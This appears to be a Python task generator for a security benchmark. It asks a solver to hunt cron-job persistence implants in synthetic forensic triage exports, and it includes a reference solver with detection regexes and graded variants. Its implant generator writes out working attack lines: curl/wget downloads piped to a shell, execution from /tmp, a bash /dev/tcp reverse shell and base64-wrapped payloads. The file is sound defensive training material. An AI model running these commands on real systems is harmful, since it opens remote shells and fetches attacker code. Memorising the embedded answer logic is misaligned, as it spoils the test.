"""Did the intruder leave cron jobs behind? A triage export holds each host's cron tables (`etc/crontab`,
`etc/cron.d/*`, `var/spool/cron/crontabs/<user>`) under a folder named by a hash of the host name
(delivered). An implant is a job whose command pipes a download into a shell, executes a file from a
world-writable directory, opens a `/dev/tcp` reverse shell or pipes a base64 blob into a shell. Variants:
`entries` lists each implant with the account it runs as, `c2` lists the command-and-control endpoint
each implant talks to (looking inside base64 payloads), `runas` counts the implants per account. Higher
levels add the other cron tables, comment and environment lines, look-alike benign jobs (downloads saved
to a file, `/tmp` passed as an argument), `@reboot` jobs and cron.d files cron ignores by name."""

from __future__ import annotations

import base64
from dataclasses import dataclass

from tmax.families.base import Family, TaskBuilder, register
from tmax.families.programs import fill, run_python
from tmax.families.security import _fleet as fleet

REFERENCE = r'''
import base64
import os
import re
import sys

RULES = @RULES@  # 0: downloads piped to a shell only; 1: + world-writable exec; 2: + /dev/tcp, base64
NAMES = @NAMES@  # cron.d files whose names are not [A-Za-z0-9_-]+ are ignored by cron
DOWNLOAD = re.compile(r"\b(curl|wget)\b[^|]*\|\s*(ba)?sh\b")
WWEXEC = re.compile(r"(^|;\s*|&&\s*|\|\s*|\b(ba)?sh\s+)(/tmp|/var/tmp|/dev/shm)/")
REVERSE = re.compile(r"/dev/tcp/([^/\s]+)/([0-9]+)")
BLOB = re.compile(r"echo\s+([A-Za-z0-9+/=]+)\s*\|\s*base64\s+-d\s*\|\s*(ba)?sh\b")
URL = re.compile(r"https?://([^/:\s]+):([0-9]+)")
ENV = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*\s*=")


def jobs(rel, text, owner):
    """(where, user, command) of every job in one cron table; owner is None for system tables."""
    for n, line in enumerate(text.splitlines(), 1):
        s = line.strip()
        if not s or s.startswith("#") or ENV.match(s):
            continue
        f = s.split(None, 1 if s.startswith("@") else 5)
        if owner is None:
            user, cmd = f[-1].split(None, 1)
        else:
            user, cmd = owner, f[-1]
        yield f"{rel}:{n}", user, cmd


def implant(cmd):
    """None if benign, else the endpoint ('' when it names none)."""
    m = BLOB.search(cmd) if RULES >= 2 else None
    if m:
        return implant(base64.b64decode(m.group(1)).decode()) or ""
    hit = DOWNLOAD.search(cmd) or (RULES >= 1 and WWEXEC.search(cmd)) or (RULES >= 2 and REVERSE.search(cmd))
    if not hit:
        return None
    ep = URL.search(cmd) or REVERSE.search(cmd)
    return f"{ep.group(1)}:{ep.group(2)}" if ep else ""


def hunt(tables, variant):
    """tables: path relative to the host root -> text."""
    out, count = [], {}
    for rel in sorted(tables):
        d, _, base = rel.rpartition("/")
        if d == "etc/cron.d" and NAMES and not re.fullmatch(r"[A-Za-z0-9_-]+", base):
            continue
        owner = base if d == "var/spool/cron/crontabs" else None
        for where, user, cmd in jobs(rel, tables[rel], owner):
            ep = implant(cmd)
            if ep is None:
                continue
            count[user] = count.get(user, 0) + 1
            if variant == "entries":
                out.append(f"{where} {user}")
            elif variant == "c2" and ep:
                out.append(f"{where} {ep}")
    if variant == "runas":
        out = [f"{u} {n}" for u, n in count.items()]
    return "".join(x + "\n" for x in sorted(out))


if __name__ == "__main__":  # cronhunt.py HOST_ROOT entries|c2|runas
    root = sys.argv[1]
    tables = {}
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = os.path.join(dirpath, name)
            tables[os.path.relpath(p, root)] = open(p).read()
    sys.stdout.write(hunt(tables, sys.argv[2]))
'''

BENIGN = ("/usr/lib/php/sessionclean", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
          "/usr/bin/certbot renew -q", "/usr/local/bin/backup.sh > /var/log/backup.log 2>&1",
          "cd /srv/app && ./bin/rake jobs:work", "/usr/sbin/logrotate /etc/logrotate.conf",
          "/usr/bin/rsync -a /srv/www/ backup01:/srv/www/", "[ -x /usr/lib/sysstat/debian-sa1 ] && /usr/lib/sysstat/debian-sa1 1 1")
LOOKALIKE = ("find /tmp -type f -mtime +7 -delete", "/usr/bin/flock -n /tmp/sync.lock /usr/local/bin/sync-assets",
             "curl -fsS -o /var/lib/geoip/db.tgz https://updates.example.net/geo.tgz",
             "wget -q -O /srv/feeds/rates.json https://rates.example.org/today", "rm -rf /var/tmp/build-cache",
             "curl -fsS https://status.example.net/ping?h=web | logger -t ping")
USERS = ("root", "www-data", "deploy", "postgres", "backup", "git", "alice")
BINS = ("kworkerd", "dbus-helper", ".x", "systemd-upd", "sshd-cache", "crond2")


def _sched(rng, words):
    if words and rng.random() < 0.3:
        return rng.choice(["@reboot", "@hourly", "@daily"])
    return rng.choice(["*/5 * * * *", "0 * * * *", "17 3 * * *", "*/15 * * * *", "30 2 * * 0", "0 */6 1-15 * 1-5"])


def _endpoint(rng):
    host = rng.choice([f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                       f"cdn-{rng.choice(['img', 'static', 'upd', 'mirror'])}{rng.randrange(10, 99)}.top"])
    return host, rng.choice([443, 8080, 4444, 8443, 1337, 9001])


def _implant(rng, rules):
    """A malicious command of one of the kinds the rules know."""
    kind = rng.choice(["download", "download", "wwexec", "reverse", "blob"][:1 + 2 * (rules >= 1) + 2 * (rules >= 2)])
    host, port = _endpoint(rng)
    if kind == "download":
        return rng.choice([f"curl -fsSL http://{host}:{port}/{rng.choice(BINS)}.sh | sh",
                           f"wget -q -O- http://{host}:{port}/i | bash"])
    if kind == "wwexec":
        d = rng.choice(["/tmp", "/var/tmp", "/dev/shm"])
        return rng.choice([f"{d}/.{rng.choice(BINS)}/run >/dev/null 2>&1", f"sh {d}/.cache/{rng.choice(BINS)}.sh"])
    if kind == "reverse":
        return f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"
    inner = _implant(rng, 1)
    return f"echo {base64.b64encode(inner.encode()).decode()} | base64 -d | sh"


@dataclass(frozen=True)
class Knobs:
    jobs: int  # jobs in each cron table
    implants: int  # implants on each host
    traps: int  # 0 crontab only; 1 cron.d, spools, comments; 2 tcp and base64; 3 look-alikes; 4 @reboot, names
    decoys: int  # other hosts of the export


@register
class CronPersistenceHunt(Family):
    name = "cron_persistence_hunt"
    domain = "security"
    skill_types = ("Forensics",)
    primitive_skills = ("config file parsing", "regular expressions", "malware string extraction",
                        "false-positive suppression", "indicator of compromise defanging")
    verifiers = ("exact_text", "metric_threshold", "multi_protocol")
    variants = ("entries", "c2", "runas")
    levels = {0: Knobs(jobs=6, implants=2, traps=0, decoys=2),
              1: Knobs(jobs=5, implants=3, traps=1, decoys=2),
              2: Knobs(jobs=6, implants=4, traps=2, decoys=3),
              3: Knobs(jobs=7, implants=5, traps=3, decoys=3),
              4: Knobs(jobs=8, implants=6, traps=4, decoys=3)}

    def _host(self, t):
        """Path relative to the host root -> cron table text."""
        k, rng = t.knobs, t.rng
        tables = {"etc/crontab": None}
        if k.traps >= 1:
            for name in rng.sample(["sysstat", "php", "certbot", "app-jobs", "e2scrub_all"], 2):
                tables[f"etc/cron.d/{name}"] = None
            for user in rng.sample(USERS[1:], 2):
                tables[f"var/spool/cron/crontabs/{user}"] = None
        if k.traps >= 4:  # cron skips these names: an implant left there never runs
            tables[f"etc/cron.d/{rng.choice(['sysstat.dpkg-old', 'php~', 'jobs.bak'])}"] = None
        rels = list(tables)
        lines = {rel: [] for rel in rels}
        for rel in rels:
            for _ in range(rng.randrange(2, k.jobs)):
                lines[rel].append(rng.choice(BENIGN + (LOOKALIKE if k.traps >= 3 else ())))
        for _ in range(k.implants):
            lines[rng.choice(rels)].insert(0, _implant(rng, k.traps))
        for rel in rels:
            rng.shuffle(lines[rel])
            system = not rel.startswith("var/")
            body = []
            if k.traps >= 1:
                body += ["SHELL=/bin/sh", "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin", "",
                         "# m h dom mon dow" + (" user" if system else "") + "  command"]
            for cmd in lines[rel]:
                user = (rng.choice(USERS[:3]) + " ") if system else ""
                body.append(f"{_sched(rng, k.traps >= 4)} {user}{cmd}")
                if k.traps >= 1 and rng.random() < 0.1:
                    body.append("# " + body[-1])  # a disabled copy
            tables[rel] = "".join(x + "\n" for x in body)
        return tables

    def output_case(self, t: TaskBuilder) -> None:
        k, variant = t.knobs, t.variant
        src = fill(REFERENCE, RULES=k.traps, NAMES=k.traps >= 4)
        ref = run_python(src)
        hosts, truth = fleet.pick(t, lambda: [self._host(t) for _ in range(1 + k.decoys)],
                                  lambda h: ref["hunt"](h, variant))
        target = fleet.ship(t, "/app/triage", hosts)
        where = ("`etc/crontab`, `etc/cron.d/*` (both with a user field after the schedule) and "
                 "`var/spool/cron/crontabs/<user>` (jobs of that user, no user field)" if k.traps >= 1 else
                 "`etc/crontab` (schedule, user, command)")
        who = fleet.intro(t, "/app/triage", f"the cron tables collected from our servers after the breach ({where}), "
                          "each server's", "server", target)
        kinds = "; or ".join(text for lv, text in (
            (0, "its command pipes a `curl` or `wget` download into `sh` or `bash` (a `|` then `sh`/`bash`)"),
            (1, "it executes a file under `/tmp/`, `/var/tmp/` or `/dev/shm/`: such a path is the command's first "
                "word, the first word after `;`, `&&` or `|`, or the word right after `sh ` or `bash `"),
            (2, "it opens a reverse shell through `/dev/tcp/<host>/<port>`"),
            (2, "it pipes `echo <base64>` through `base64 -d` into a shell (whatever the payload)")) if k.traps >= lv)
        t.say(fleet.rules(
            k.traps, (0, f"A job is an implant when {kinds}."),
            (1, "Blank lines, `#` comments (a commented-out job is disabled) and environment settings (`NAME=value`) "
                "are not jobs."),
            (3, "Nothing else counts: a download saved to a file, or a world-writable path that is only an argument, "
                "is benign."),
            (4, "A schedule is five fields or one `@` word (`@reboot`, `@hourly`). cron skips files in `etc/cron.d/` "
                "whose names contain anything but letters, digits, `_` and `-`: jobs there never run and do not "
                "count.")))
        place = "`<path relative to the server folder>:<line number>` (e.g. `etc/crontab:7`, 1-based)"
        if variant == "entries":
            t.say(f"List every implant as {place}, a space, and the account it runs as.")
        elif variant == "c2":
            t.say(f"List the command-and-control endpoint of every implant that names one: {place}, a space, and "
                  "`<host>:<port>` from its `http://<host>:<port>/` URL or its `/dev/tcp/<host>/<port>` path"
                  + (" (for a base64 payload, from the decoded payload)" if k.traps >= 2 else "") + ".")
        else:
            t.say("For every account that runs at least one implant, write `<account> <number of implants>`.")
        t.say("Sort the lines in byte order (`LC_ALL=C sort`).")
        fleet.solve(t, who, "cronhunt.py", src, "/app/triage/{KEY}", variant, "/app/out/implants.txt")
        t.expect_output("/app/out/implants.txt", truth, "the implant report")
